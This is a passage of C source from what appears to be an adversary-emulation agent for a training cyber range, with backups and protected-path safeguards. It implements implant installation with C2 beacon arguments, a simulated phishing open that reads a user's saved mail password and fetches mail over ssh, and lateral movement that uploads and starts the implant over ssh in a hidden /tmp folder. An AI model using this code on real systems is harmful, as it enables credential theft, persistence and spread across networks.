    p->env = envp;
    p->as = s->as;
    p->fd3 = c.fd;
    p->in = s->in;
    p->in_len = s->in_len;
    p->out_max = s->out_max;
    p->timeout_ms = s->timeout_ms;
    rc = hp_proc_run(p, why, wlen);
    sodium_memzero(pwenv, sizeof(pwenv));
    hp_conn_close(&c, r);
    return rc;
}

/* Why a session failed, from dbclient's stderr. */
static const char *hp_ssh_failure(const hp_proc *p)
{
    if (p->timed_out)
        return "timed out";
    if (strstr(p->err, "assword") != NULL || strstr(p->err, "uthentication") != NULL ||
        strstr(p->err, "No auth methods") != NULL)
        return "login failed";
    if (strstr(p->err, "exited") != NULL || strstr(p->err, "Connection") != NULL)
        return "connection closed";
    return "remote command failed";
}

/* ---- the implant -------------------------------------------------------------- */

/* The implant binary (this agent: /proc/self/exe), malloc'd. */
static char *hp_implant_image(size_t *len)
{
    return hp_read_file("/proc/self/exe", HP_MAX_IMPLANT, len);
}

/* Install the implant at q->root + ACT_IMPLANT_PATH: mode 0755, owned by
 * uid:gid (the folder too, when it is created).  0 or -1. */
static int hp_implant_install(const act_req *q, uid_t uid, gid_t gid, size_t *bytes,
                              char *why, size_t wlen)
{
    char path[PATH_MAX];
    size_t len = 0;
    char *img = hp_implant_image(&len);
    int rc = -1;

    if (img == NULL) {
        snprintf(why, wlen, "cannot read /proc/self/exe: %s", strerror(errno));
        return -1;
    }
    if (hp_path(q, ACT_IMPLANT_PATH, path, sizeof(path)) < 0 ||
        hp_parent_dirs(path, 0755, uid, gid) < 0 ||
        hp_write_file(path, img, len, 0755, uid, gid) < 0) {
        snprintf(why, wlen, "cannot install %s: %s", ACT_IMPLANT_PATH, strerror(errno));
    } else {
        *bytes = len;
        rc = 0;
    }
    free(img);
    return rc;
}

/* The implant's command line for a C2 (agent_action.h, agent_implant_main),
 * shell-quoted, after ACT_IMPLANT_PATH.  extra is appended as it is. */
static int hp_implant_args(const act_req *q, long long interval_ms, long long jitter_ms,
                           long long count, const char *extra, char *out, size_t len)
{
    char qs[160], qc[80], qd[300];
    size_t o;
    int n;

    if (q->c2_addr == NULL)
        return -1;
    if (hp_sh_quote(q->step ? q->step : "implant", qs, sizeof(qs)) < 0 ||
        hp_sh_quote(q->c2_addr, qc, sizeof(qc)) < 0)
        return -1;
    n = snprintf(out, len, "--implant --step %s --channel http --c2 %s --interval %lld", qs, qc,
                 interval_ms);
    if (n < 0 || (size_t)n >= len)
        return -1;
    o = (size_t)n;
    if (q->c2_port > 0)
        o += (size_t)snprintf(out + o, len - o, " --port %d", q->c2_port);
    if (jitter_ms > 0 && o < len)
        o += (size_t)snprintf(out + o, len - o, " --jitter %lld", jitter_ms);
    if (count > 0 && o < len)
        o += (size_t)snprintf(out + o, len - o, " --count %lld", count);
    if (q->c2_domain != NULL && o < len) {
        if (hp_sh_quote(q->c2_domain, qd, sizeof(qd)) < 0)
            return -1;
        o += (size_t)snprintf(out + o, len - o, " --domain %s", qd);
    }
    if (o < len)
        o += (size_t)snprintf(out + o, len - o, " --seed %llu", (unsigned long long)q->seed);
    if (extra != NULL && o < len)
        o += (size_t)snprintf(out + o, len - o, " %s", extra);
    return o < len ? 0 : -1;
}

/* ---- recovery copies ---------------------------------------------------------- */

/* Where the recovery copy of an absolute path lives: /srv/X/rest ->
 * /srv/backup/X/rest (the server image copies /srv/share and /srv/www
 * there at boot), anything else -> /srv/backup/other/path. */
static int hp_backup_path(const char *abs, char *out, size_t len)
{
    int n;

    if (strncmp(abs, "/srv/", 5) == 0 && !hp_under(abs, HP_BACKUP))
        n = snprintf(out, len, "%s/%s", HP_BACKUP, abs + 5);
    else
        n = snprintf(out, len, "%s/other%s", HP_BACKUP, abs);
    return (n < 0 || (size_t)n >= len) ? -1 : 0;
}

/* Make sure a recovery copy of abs exists before it is changed: 0 when
 * one was already there, 1 when made now, -1 when none can be made. */
static int hp_backup_ensure(const act_req *q, const char *abs, char *bk_abs, size_t bk_len)
{
    char src[PATH_MAX], dst[PATH_MAX], top[PATH_MAX];
    struct stat st;

    if (hp_backup_path(abs, bk_abs, bk_len) < 0 || hp_path(q, abs, src, sizeof(src)) < 0 ||
        hp_path(q, bk_abs, dst, sizeof(dst)) < 0 || hp_path(q, HP_BACKUP, top, sizeof(top)) < 0)
        return -1;
    if (lstat(dst, &st) == 0 && S_ISREG(st.st_mode))
        return 0;
    /* The backup tree is root's alone, as the image makes it. */
    if (hp_mkdirs(top, 0700, (uid_t)-1, (gid_t)-1) < 0 || hp_parent_dirs(dst, 0755, (uid_t)-1,
                                                                          (gid_t)-1) < 0)
        return -1;
    return hp_copy_file(src, dst) == 0 ? 1 : -1;
}

/* Trees an impact action refuses: the system itself, the recovery copies
 * and the implant. */
static int hp_protected(const char *abs)
{
    static const char *const deny[] = {"/proc", "/sys", "/dev", "/run", "/etc", "/usr",
                                       "/bin", "/sbin", "/lib", "/lib64", "/boot",
                                       HP_BACKUP, "/tmp/.cache", NULL};

    if (strcmp(abs, "/") == 0)
        return 1;
    for (int i = 0; deny[i]; i++)
        if (hp_under(abs, deny[i]))
            return 1;
    return 0;
}

/* ===================================================================== */
/* phish.open                                                            */
/* ===================================================================== */

typedef struct hp_span {
    const char *p;
    size_t n;
} hp_span;

/* The value of header name (unfolded, into out) in a header block. */
static int hp_header(hp_span hdr, const char *name, char *out, size_t len)
{
    size_t nl = strlen(name), i = 0;

    while (i < hdr.n) {
        size_t e = i;
        while (e < hdr.n && hdr.p[e] != '\n')
            e++;
        if (e - i > nl && hdr.p[i + nl] == ':' && strncasecmp(hdr.p + i, name, nl) == 0) {
            size_t o = 0, k = i + nl + 1;
            for (;;) {
                for (; k < e && o + 1 < len; k++)
                    if (hdr.p[k] != '\r')
                        out[o++] = (hdr.p[k] == '\t') ? ' ' : hdr.p[k];
                /* Folded continuation lines start with white space. */
                if (e + 1 < hdr.n && (hdr.p[e + 1] == ' ' || hdr.p[e + 1] == '\t')) {
                    k = e + 1;
                    e = k;
                    while (e < hdr.n && hdr.p[e] != '\n')
                        e++;
                    continue;
                }
                break;
            }
            out[o] = '\0';
            /* Trim. */
            {
                char *s = out;
                while (*s == ' ')
                    s++;
                memmove(out, s, strlen(s) + 1);
                o = strlen(out);
                while (o > 0 && (out[o - 1] == ' ' || out[o - 1] == '\r'))
                    out[--o] = '\0';
            }
            return 0;
        }
        i = e + 1;
    }
    out[0] = '\0';
    return -1;
}

/* A parameter of a structured header value: name=value or name="value". */
static int hp_hparam(const char *v, const char *name, char *out, size_t len)
{
    size_t nl = strlen(name);
    const char *s = v;

    while ((s = strchr(s, ';')) != NULL) {
        s++;
        while (*s == ' ')
            s++;
        if (strncasecmp(s, name, nl) == 0 && s[nl] == '=') {
            size_t o = 0;
            s += nl + 1;
            if (*s == '"') {
                for (s++; *s && *s != '"' && o + 1 < len; s++)
                    out[o++] = *s;
            } else {
                for (; *s && *s != ';' && *s != ' ' && o + 1 < len; s++)
                    out[o++] = *s;
            }
            out[o] = '\0';
            return o > 0 ? 0 : -1;
        }
    }
    return -1;
}

/* Split a message (or MIME part) into header block and body. */
static void hp_split(hp_span m, hp_span *hdr, hp_span *body)
{
    size_t i = 0;

    /* The header ends at the first empty line ("\n\n" or "\n\r\n"). */
    while (i < m.n) {
        size_t e = i;
        while (e < m.n && m.p[e] != '\n')
            e++;
        if (e == i || (e == i + 1 && m.p[i] == '\r')) {
            hdr->p = m.p;
            hdr->n = i;
            body->p = m.p + (e < m.n ? e + 1 : e);
            body->n = m.n - (size_t)(body->p - m.p);
            return;
        }
        i = e + 1;
    }
    *hdr = m;
    body->p = m.p + m.n;
    body->n = 0;
}

static int hp_b64val(int c)
{
    if (c >= 'A' && c <= 'Z')
        return c - 'A';
    if (c >= 'a' && c <= 'z')
        return c - 'a' + 26;
    if (c >= '0' && c <= '9')
        return c - '0' + 52;
    if (c == '+')
        return 62;
    if (c == '/')
        return 63;
    return -1;
}

/* Decode a body by its Content-Transfer-Encoding into a malloc'd buffer. */
static char *hp_decode(hp_span b, const char *cte, size_t *len)
{
    char *out = malloc(b.n + 1);
    size_t o = 0;

    if (out == NULL)
        return NULL;
    if (strncasecmp(cte, "base64", 6) == 0) {
        unsigned acc = 0;
        int bits = 0;
        for (size_t i = 0; i < b.n; i++) {
            int v = hp_b64val((unsigned char)b.p[i]);
            if (b.p[i] == '=')
                break;
            if (v < 0)
                continue;
            acc = (acc << 6) | (unsigned)v;
            bits += 6;
            if (bits >= 8) {
                bits -= 8;
                out[o++] = (char)((acc >> bits) & 0xff);
            }
        }
    } else if (strncasecmp(cte, "quoted-printable", 16) == 0) {
        for (size_t i = 0; i < b.n; i++) {
            if (b.p[i] == '=' && i + 1 < b.n && (b.p[i + 1] == '\n' || b.p[i + 1] == '\r')) {
                i += (b.p[i + 1] == '\r' && i + 2 < b.n && b.p[i + 2] == '\n') ? 2 : 1;
            } else if (b.p[i] == '=' && i + 2 < b.n && isxdigit((unsigned char)b.p[i + 1]) &&
                       isxdigit((unsigned char)b.p[i + 2])) {
                char hx[3] = {b.p[i + 1], b.p[i + 2], 0};
                out[o++] = (char)strtol(hx, NULL, 16);
                i += 2;
            } else if (b.p[i] != '\r') {
                out[o++] = b.p[i];
            }
        }
    } else {
        for (size_t i = 0; i < b.n; i++)
            if (b.p[i] != '\r')
                out[o++] = b.p[i];
    }
    out[o] = '\0';
    *len = o;
    return out;
}

/* RFC 2047 encoded words (=?charset?B?...?= or ?Q?) decoded in place,
 * bytes kept as they are (UTF-8 subjects and file names stay UTF-8). */
static void hp_rfc2047(char *s)
{
    char *o = s, *p = s, *last_word_end = NULL;

    while (*p) {
        char *q1, *q2, *end;
        if (p[0] == '=' && p[1] == '?' && (q1 = strchr(p + 2, '?')) != NULL &&
            (q1[1] == 'B' || q1[1] == 'b' || q1[1] == 'Q' || q1[1] == 'q') && q1[2] == '?' &&
            (end = strstr(q1 + 3, "?=")) != NULL) {
            char enc = (char)toupper((unsigned char)q1[1]);
            /* White space between two encoded words is not text. */
            if (last_word_end != NULL) {
                char *w = last_word_end;
                while (w < o && (*w == ' ' || *w == '\t'))
                    w++;
                if (w == o)
                    o = last_word_end;
            }
            q2 = q1 + 3;
            if (enc == 'B') {
                unsigned acc = 0;
                int bits = 0;
                for (; q2 < end; q2++) {
                    int v = hp_b64val((unsigned char)*q2);
                    if (v < 0)
                        continue;
                    acc = (acc << 6) | (unsigned)v;
                    bits += 6;
                    if (bits >= 8) {
                        bits -= 8;
                        *o++ = (char)((acc >> bits) & 0xff);
                    }
                }
            } else {
                for (; q2 < end; q2++) {
                    if (*q2 == '_') {
                        *o++ = ' ';
                    } else if (*q2 == '=' && q2 + 2 < end && isxdigit((unsigned char)q2[1]) &&
                               isxdigit((unsigned char)q2[2])) {
                        char hx[3] = {q2[1], q2[2], 0};
                        *o++ = (char)strtol(hx, NULL, 16);
                        q2 += 2;
                    } else {
                        *o++ = *q2;
                    }
                }
            }
            p = end + 2;
            last_word_end = o;
            continue;
        }
        if (*p != ' ' && *p != '\t')
            last_word_end = NULL;
        *o++ = *p++;
    }
    *o = '\0';
}

typedef struct hp_mail {
    char from[256];
    char subject[512];
    char date[128];
    char attach_name[256];
    char *attach;          /* decoded, malloc'd */
    size_t attach_len;
    char link[512];
    int parts;
} hp_mail;

/* The first http:// URL in a text. */
static void hp_find_link(const char *s, size_t n, char *out, size_t len)
{
    for (size_t i = 0; i + 7 < n && out[0] == '\0'; i++) {
        if (strncasecmp(s + i, "http://", 7) == 0) {
            size_t o = 0;
            for (size_t k = i; k < n && o + 1 < len; k++) {
                unsigned char c = (unsigned char)s[k];
                if (c <= ' ' || c == '"' || c == '\'' || c == '<' || c == '>' || c >= 0x7f)
                    break;
                out[o++] = (char)c;
            }
            out[o] = '\0';
            /* A sentence's full stop or comma is not part of the URL. */
            while (o > 7 && strchr(".,;:)", out[o - 1]))
                out[--o] = '\0';
        }
    }
}

/* Walk a MIME entity: the first attachment and the first link. */
static void hp_mime_walk(hp_span ent, hp_mail *m, int depth)
{
    hp_span hdr, body;
    char ctype[512], cdisp[512], cte[64], name[256];

    if (depth > 4 || m->parts >= HP_MAX_PARTS)
        return;
    m->parts++;
    hp_split(ent, &hdr, &body);
    hp_header(hdr, "Content-Type", ctype, sizeof(ctype));
    hp_header(hdr, "Content-Disposition", cdisp, sizeof(cdisp));
    hp_header(hdr, "Content-Transfer-Encoding", cte, sizeof(cte));
    if (strncasecmp(ctype, "multipart/", 10) == 0) {
        char boundary[200], delim[210];
        size_t dl, i = 0, start = 0;
        int in_part = 0;
        if (hp_hparam(ctype, "boundary", boundary, sizeof(boundary)) < 0)
            return;
        dl = (size_t)snprintf(delim, sizeof(delim), "--%s", boundary);
        while (i <= body.n) {
            size_t e = i;
            while (e < body.n && body.p[e] != '\n')
                e++;
            if (e - i >= dl && memcmp(body.p + i, delim, dl) == 0) {
                if (in_part && i > start) {
                    hp_span part = {body.p + start, i - start - 1};
                    hp_mime_walk(part, m, depth + 1);
                }
                if (e - i >= dl + 2 && body.p[i + dl] == '-' && body.p[i + dl + 1] == '-')
                    break;
                in_part = 1;
                start = e + 1;
            }
            if (e >= body.n)
                break;
            i = e + 1;
        }
        return;
    }
    name[0] = '\0';
    if (hp_hparam(cdisp, "filename", name, sizeof(name)) < 0)
        hp_hparam(ctype, "name", name, sizeof(name));
    if (m->attach == NULL &&
        (strncasecmp(cdisp, "attachment", 10) == 0 || name[0] != '\0')) {
        m->attach = hp_decode(body, cte[0] ? cte : "7bit", &m->attach_len);
        snprintf(m->attach_name, sizeof(m->attach_name), "%s", name[0] ? name : "attachment");
        hp_rfc2047(m->attach_name);
        return;
    }
    if (m->link[0] == '\0' && (ctype[0] == '\0' || strncasecmp(ctype, "text/", 5) == 0)) {
        size_t n = 0;
        char *text = hp_decode(body, cte[0] ? cte : "7bit", &n);
        if (text != NULL)
            hp_find_link(text, n, m->link, sizeof(m->link));
        free(text);
    }
}

/* Case-insensitive comparison of two subjects with surrounding white space
 * ignored. */
static int hp_subject_eq(const char *a, const char *b)
{
    size_t na, nb;

    while (*a == ' ')
        a++;
    while (*b == ' ')
        b++;
    na = strlen(a);
    nb = strlen(b);
    while (na > 0 && a[na - 1] == ' ')
        na--;
    while (nb > 0 && b[nb - 1] == ' ')
        nb--;
    return na == nb && strncasecmp(a, b, na) == 0;
}

/* Find the newest message with the subject (any subject when NULL, then
 * the newest with an attachment or a link) in an mbox.  Returns 1 and
 * fills m when found; *count gets the number of messages. */
static int hp_mbox_find(const char *box, size_t len, const char *subject, hp_mail *m,
                        int *count)
{
    size_t i = 0, start = 0;
    int in_msg = 0, found = 0, n = 0;

    memset(m, 0, sizeof(*m));
    /* Messages start at "From " lines at the start of the file or after an
     * empty line; the newest is the last one, so keep overwriting. */
    while (i <= len && n < HP_MAX_MESSAGES) {
        size_t e = i;
        int boundary;
        while (e < len && box[e] != '\n')
            e++;
        boundary = (i == len) || (e - i >= 5 && memcmp(box + i, "From ", 5) == 0 &&
                                  (i == 0 || (i >= 2 && box[i - 2] == '\n')));
        if (boundary && in_msg) {
            hp_mail cand;
            hp_span msg = {box + start, i - start}, hdr, body;
            int match;
            memset(&cand, 0, sizeof(cand));
            n++;
            hp_split(msg, &hdr, &body);
            hp_header(hdr, "Subject", cand.subject, sizeof(cand.subject));
            hp_rfc2047(cand.subject);
            match = subject ? hp_subject_eq(cand.subject, subject) : 1;
            if (match) {
                hp_header(hdr, "From", cand.from, sizeof(cand.from));
                hp_rfc2047(cand.from);
                hp_header(hdr, "Date", cand.date, sizeof(cand.date));
                hp_mime_walk(msg, &cand, 0);
                if (subject != NULL || cand.attach != NULL || cand.link[0] != '\0') {
                    free(m->attach);
                    *m = cand;
                    found = 1;
                } else {
                    free(cand.attach);
                }
            }
            in_msg = 0;
        }
        if (i == len)
            break;
        if (boundary) {
            in_msg = 1;
            start = e + 1; /* the message starts after the "From " line */
        }
        i = e + 1;
        if (e >= len) {
            /* The last line had no newline: close the message at the end. */
            i = len;
        }
    }
    *count = n;
    return found;
}

/* A file name safe to save: the last path component, characters outside
 * letters, digits, ". _ -" and UTF-8 replaced, no leading dot. */
static void hp_safe_name(const char *in, char *out, size_t len)
{
    const char *b = in;
    size_t o = 0;

    for (const char *s = in; *s; s++)
        if (*s == '/' || *s == '\\')
            b = s + 1;
    while (*b == '.')
        b++;
    for (; *b && o + 1 < len && o < 128; b++) {
        unsigned char c = (unsigned char)*b;
        /* UTF-8 bytes are kept: a Japanese file name stays readable. */
        out[o++] = (isalnum(c) || c == '.' || c == '_' || c == '-' || c >= 0x80) ? (char)c : '_';
    }
    out[o] = '\0';
    if (o == 0)
        snprintf(out, len, "attachment.bin");
}

/* The workstation's mail client settings for user: the profile in the
 * user's home (server, password) written by the image's start-services,
 * else host.env (CYR_MAIL_SERVER, CYR_MAIL_PASS_<user>), else the host
 * called "mail" in CYR_HOSTS.  Address and password are malloc'd. */
static int hp_mail_account(const act_req *q, const hp_user *u, char *server, size_t slen,
                           char **password, char *why, size_t wlen)
{
    char path[PATH_MAX], key[128], prof[PATH_MAX];
    char *srv = NULL, *pw = NULL;
    int rc = -1;

    *password = NULL;
    snprintf(prof, sizeof(prof), "%s/%s", u->home, HP_MAIL_PROFILE);
    if (hp_path(q, prof, path, sizeof(path)) == 0) {
        srv = hp_kv_get(path, "server");
        pw = hp_kv_get(path, "password");
    }
    if (srv == NULL || srv[0] == '\0') {
        free(srv);
        srv = hp_env_get(q, "CYR_MAIL_SERVER");
    }
    if (pw == NULL) {
        snprintf(key, sizeof(key), "CYR_MAIL_PASS_%s", u->name);
        for (char *k = key; *k; k++)
            if (!isalnum((unsigned char)*k))
                *k = '_';
        pw = hp_env_get(q, key);
    }
    if (srv == NULL || srv[0] == '\0') {
        free(srv);
        srv = strdup("mail");
    }
    if (srv == NULL || hp_resolve(q, srv, server, slen) < 0) {
        snprintf(why, wlen, "no mail server address for %s (%s in the user's %s, "
                 "CYR_MAIL_SERVER or a host \"mail\" in CYR_HOSTS)", u->name,
                 srv ? srv : "none", HP_MAIL_PROFILE);
    } else if (pw == NULL) {
        snprintf(why, wlen, "no saved mail password for %s (~/%s or CYR_MAIL_PASS_%s)",
                 u->name, HP_MAIL_PROFILE, u->name);
    } else {
        *password = pw;
        pw = NULL;
        rc = 0;
    }
    free(srv);
    if (pw != NULL) {
        sodium_memzero(pw, strlen(pw));
        free(pw);
    }
    return rc;
}

/* GET url (http:// only) through the proxy in host.env (CYR_PROXY) or
 * directly, as the user's browser would; the body is saved to path.
 * Every fetch is logged to /var/log/browse.log like the image's browse. */
static int hp_http_download(const act_req *q, const hp_user *u, const char *url, const char *path,
                            size_t *saved, act_result *r, char *why, size_t wlen)
{
    char host[256], addr[64], req[2048], logp[PATH_MAX], line[1024];
    char *proxy = hp_env_get(q, "CYR_PROXY"), *resp = NULL, *body;
    const char *h = url + 7, *e;
    size_t rlen = 0, cap = HP_MAX_ATTACH + 65536;
    int port = 80, cport, status = 0, rc = -1;
    long long deadline = hp_now_ms() + hp_budget_ms(q, HP_HTTP_TIMEOUT_MS);
    hp_conn c = {.fd = -1};

    if (strncasecmp(url, "http://", 7) != 0) {
        snprintf(why, wlen, "link %s is not http://", url);
        goto done;
    }
    e = h + strcspn(h, ":/?#");
    if ((size_t)(e - h) >= sizeof(host) || e == h) {
        snprintf(why, wlen, "link %s has no host", url);
        goto done;
    }
    memcpy(host, h, (size_t)(e - h));
    host[e - h] = '\0';
    if (*e == ':')
        port = atoi(e + 1);
    if (proxy != NULL && proxy[0] != '\0' && strchr(proxy, ':') != NULL) {
        char *colon = strrchr(proxy, ':');
        *colon = '\0';
        cport = atoi(colon + 1);
        snprintf(addr, sizeof(addr), "%s", proxy);
        *colon = ':';
        snprintf(req, sizeof(req), "GET %s HTTP/1.0\r\nHost: %s\r\n", url, host);
    } else {
        const char *pathq = e + strcspn(e, "/");
        if (hp_resolve(q, host, addr, sizeof(addr)) < 0) {
            snprintf(why, wlen, "link host %s is not an address in the range", host);
            goto done;
        }
        cport = port;
        snprintf(req, sizeof(req), "GET %s HTTP/1.0\r\nHost: %s\r\n", *pathq ? pathq : "/",
                 host);
    }
    snprintf(req + strlen(req), sizeof(req) - strlen(req),
             "User-Agent: Mozilla/5.0 (X11; Linux x86_64; cyrange) Gecko/20100101 "
             "Firefox/115.0\r\nAccept: */*\r\nConnection: close\r\n\r\n");
    if (hp_connect(addr, cport, 10000, &c, why, wlen) < 0)
        goto done;
    if (hp_write_all(c.fd, req, strlen(req)) < 0) {
        snprintf(why, wlen, "send to %s:%d: %s", addr, cport, strerror(errno));
        goto done;
    }
    resp = malloc(cap + 1);
    if (resp == NULL) {
        snprintf(why, wlen, "out of memory");
        goto done;
    }
    while (rlen < cap) {
        struct pollfd pfd = {c.fd, POLLIN, 0};
        long long left = deadline - hp_now_ms();
        ssize_t k;
        if (left <= 0 || poll(&pfd, 1, (int)left) <= 0)
            break;
        k = read(c.fd, resp + rlen, cap - rlen);
        if (k < 0 && errno == EINTR)
            continue;
        if (k <= 0)
            break;
        rlen += (size_t)k;
    }
    resp[rlen] = '\0';
    sscanf(resp, "HTTP/%*s %d", &status);
    body = strstr(resp, "\r\n\r\n");
    if (status != 200 || body == NULL) {
        snprintf(why, wlen, "GET %s: HTTP status %d", url, status);
        goto done;
    }
    body += 4;
    if (hp_write_file(path, body, rlen - (size_t)(body - resp), 0644, u->uid, u->gid) < 0) {
        snprintf(why, wlen, "cannot save %s: %s", path, strerror(errno));
        goto done;
    }
    *saved = rlen - (size_t)(body - resp);
    rc = 0;
done:
    hp_conn_close(&c, r);
    if (hp_path(q, "/var/log/browse.log", logp, sizeof(logp)) == 0) {
        time_t now = time(NULL);
        struct tm tm;
        char ts[32];
        int fd = open(logp, O_WRONLY | O_APPEND | O_CREAT | O_CLOEXEC, 0644);
        localtime_r(&now, &tm);
        strftime(ts, sizeof(ts), "%Y-%m-%dT%H:%M:%S", &tm);
        snprintf(line, sizeof(line), "%s user=%s proxy=%s url=%s exit=%d\n", ts, u->name,
                 proxy && proxy[0] ? proxy : "none", url, rc == 0 ? 0 : 1);
        if (fd >= 0) {
            if (hp_write_all(fd, line, strlen(line)) < 0) {
                /* the log is a trace, not the goal */
            }
            close(fd);
        }
    }
    free(proxy);
    free(resp);
    return rc;
}

int act_phish_open(const act_req *q, act_result *r)
{
    const char *user = hp_str(q, "user", NULL), *subject = hp_str(q, "subject", NULL);
    char why[512] = "", path[PATH_MAX], abs[PATH_MAX], name[160], server[64];
    char source[128] = "", *box = NULL, *password = NULL;
    size_t box_len = 0, implant_bytes = 0, saved = 0;
    hp_user u;
    hp_mail m;
    int count = 0, rc = 0;

    memset(&m, 0, sizeof(m));
    if (!hp_word_ok(user, 32)) {
        hp_detail(r, "invalid user name");
        return -1;
    }
    if (hp_user_find(q, user, &u) < 0) {
        hp_detail(r, "no account %s on this host", user);
        return -1;
    }
    hp_ev_str(r, "user", user);

    /* The mailbox: local when this host holds it, else the mail client's
     * fetch over ssh from the mail server, as the user. */
    snprintf(abs, sizeof(abs), "/var/mail/%s", user);
    if (hp_path(q, abs, path, sizeof(path)) == 0 && access(path, R_OK) == 0) {
        box = hp_read_file(path, HP_MAX_MAILBOX, &box_len);
        if (box == NULL) {
            hp_detail(r, "cannot read %s: %s", abs, strerror(errno));
            return -1;
        }
        snprintf(source, sizeof(source), "local %s", abs);
    } else {
        hp_proc p;
        hp_ssh s;
        char cmd[128];
        if (hp_mail_account(q, &u, server, sizeof(server), &password, why, sizeof(why)) < 0) {
            hp_detail(r, "%s opened no mail: %s", user, why);
            return 0;
        }
        snprintf(cmd, sizeof(cmd), "cat /var/mail/%s", user);
        memset(&s, 0, sizeof(s));
        s.addr = server;
        s.port = 22;
        s.user = user;
        s.password = password;
        s.command = cmd;
        /* As the user, but only when we may change uid (tests run as root
         * too, and a non-root agent keeps its own). */
        s.as = geteuid() == 0 ? &u : NULL;
        s.out_max = HP_MAX_MAILBOX;
        s.timeout_ms = hp_budget_ms(q, HP_SSH_TIMEOUT_MS);
        rc = hp_ssh_run(&s, &p, r, why, sizeof(why));
        sodium_memzero(password, strlen(password));
        free(password);
        snprintf(source, sizeof(source), "ssh %s@%s:%s", user, server, abs);
        hp_ev_str(r, "mailbox", source);
        if (rc < 0) {
            hp_detail(r, "%s's mail client could not reach %s: %s", user, server, why);
            return 0;
        }
        if (p.timed_out || !WIFEXITED(p.status) || WEXITSTATUS(p.status) != 0 ||
            p.out_truncated) {
            char line[200];
            hp_first_line(p.err, line, sizeof(line));
            hp_detail(r, "fetching %s's mail from %s failed (%s)%s%s", user, server,
                      p.out_truncated ? "mailbox too large" : hp_ssh_failure(&p),
                      line[0] ? ": " : "", line);
            hp_proc_free(&p);
            return 0;
        }
        box = p.out;
        box_len = p.out_len;
        p.out = NULL;
        /* The mail client keeps its copy: a trace on the workstation. */
        snprintf(abs, sizeof(abs), "%s/Mail/inbox", u.home);
        if (hp_path(q, abs, path, sizeof(path)) == 0 &&
            hp_parent_dirs(path, 0700, u.uid, u.gid) == 0 &&
            hp_write_file(path, box, box_len, 0600, u.uid, u.gid) == 0)
            hp_ev_str(r, "mail_copy", abs);
    }
    hp_ev_str(r, "mailbox", source);

    if (!hp_mbox_find(box, box_len, subject, &m, &count)) {
        hp_ev_int(r, "messages", count);
        if (subject)
            hp_detail(r, "no message \"%.200s\" in %s's mailbox (%d messages)", subject, user,
                      count);
        else
            hp_detail(r, "no message with an attachment or link in %s's mailbox (%d messages)",
                      user, count);
        goto done;
    }
    hp_ev_int(r, "messages", count);
    hp_ev_str(r, "subject", m.subject);
    hp_ev_str(r, "from", m.from);
    if (m.date[0])
        hp_ev_str(r, "date", m.date);

    /* What the user opens lands in ~/Downloads, owned by the user. */
    snprintf(abs, sizeof(abs), "%s/Downloads", u.home);
    if (hp_path(q, abs, path, sizeof(path)) < 0 || hp_mkdirs(path, 0755, u.uid, u.gid) < 0) {
        hp_detail(r, "cannot make %s: %s", abs, strerror(errno));
        goto done;
    }
    if (m.attach != NULL) {
        hp_safe_name(m.attach_name, name, sizeof(name));
        snprintf(abs, sizeof(abs), "%s/Downloads/%s", u.home, name);
        if (hp_path(q, abs, path, sizeof(path)) < 0 ||
            hp_write_file(path, m.attach, m.attach_len, 0644, u.uid, u.gid) < 0) {
            hp_detail(r, "cannot save the attachment %s: %s", abs, strerror(errno));
            goto done;
        }
        saved = m.attach_len;
        hp_ev_str(r, "attachment", abs);
    } else if (m.link[0] != '\0') {
        const char *slash = strrchr(m.link + 7, '/');
        hp_safe_name(slash && slash[1] ? slash + 1 : "download.html", name, sizeof(name));
        name[strcspn(name, "?#")] = '\0';
        snprintf(abs, sizeof(abs), "%s/Downloads/%s", u.home, name);
        hp_ev_str(r, "link", m.link);
        if (hp_path(q, abs, path, sizeof(path)) < 0 ||
            hp_http_download(q, &u, m.link, path, &saved, r, why, sizeof(why)) < 0) {
            hp_detail(r, "%s clicked the link but the download failed: %s", user, why);
            goto done;
        }
        hp_ev_str(r, "download", abs);
    } else {
        hp_detail(r, "%s opened \"%.200s\", which has no attachment or link", user, m.subject);
        goto done;
    }
    hp_ev_int(r, "bytes", (long long)saved);

    if (hp_implant_install(q, u.uid, u.gid, &implant_bytes, why, sizeof(why)) < 0) {
        hp_detail(r, "%s", why);
        goto done;
    }
    hp_ev_str(r, "implant", ACT_IMPLANT_PATH);
    hp_ev_int(r, "implant_bytes", (long long)implant_bytes);
    r->succeeded = 1;
    hp_detail(r, "%s opened \"%.150s\" from %.100s: %s saved, implant installed at %s", user,
              m.subject, m.from, name, ACT_IMPLANT_PATH);
done:
    free(m.attach);
    free(box);
    return 0;
}

/* ===================================================================== */
/* lateral.move                                                          */
/* ===================================================================== */

int act_lateral_move(const act_req *q, act_result *r)
{
    const char *method = hp_str(q, "method", "ssh"), *user = hp_str(q, "user", NULL);
    const char *password = hp_str(q, "password", NULL);
    int start = hp_bool(q, "implant", 1), rc;
    char why[512] = "", cmd[4096], args[1500], line[300], *img = NULL;
    size_t img_len = 0;
    hp_proc p;
    hp_ssh s;

    if (strcmp(method, "ssh") != 0) {
        hp_detail(r, "lateral.move: method %s is not supported", method);
        return -1;
    }
    if (q->target_addr == NULL || !hp_word_ok(user, 32) || password == NULL) {
        hp_detail(r, "lateral.move needs a target address, a user and a password");
        return -1;
    }
    img = hp_implant_image(&img_len);
    if (img == NULL) {
        hp_detail(r, "cannot read /proc/self/exe: %s", strerror(errno));
        return -1;
    }
    hp_ev_str(r, "method", "ssh");
    hp_ev_str(r, "user", user);
    hp_ev_str(r, "target", q->target_addr);
    hp_ev_str(r, "implant", ACT_IMPLANT_PATH);

    /* The implant beacons to the C2 like c2.beacon's would; on the target
     * it takes the organisation's proxy from host.env when there is one,
     * as malware takes the system's proxy settings.  A user who may not
     * write ACT_RUN_DIR (the implant's pid and status files) gets them
     * under the implant's folder (--root). */
    args[0] = '\0';
    if (start && hp_implant_args(q, 60000, 15000, 0, NULL, args, sizeof(args)) < 0) {
        hp_ev_str(r, "not_started", "no C2 address in the request");
        start = 0;
    }
    /* Written beside and renamed: a running copy (a second move) is not
     * "text file busy". */
    snprintf(cmd, sizeof(cmd),
             "umask 022; d=%s; f=%s; mkdir -p \"$d\" && cat > \"$f.new\" && chmod 755 \"$f.new\" "
             "&& mv -f \"$f.new\" \"$f\" && ls -l \"$f\" || exit 3; ",
             "/tmp/.cache", ACT_IMPLANT_PATH);
    if (start)
        snprintf(cmd + strlen(cmd), sizeof(cmd) - strlen(cmd),
                 "p=; [ -r /etc/cyrange/host.env ] && . /etc/cyrange/host.env; "
                 "[ -n \"${CYR_PROXY:-}\" ] && p=\"--proxy $CYR_PROXY\"; "
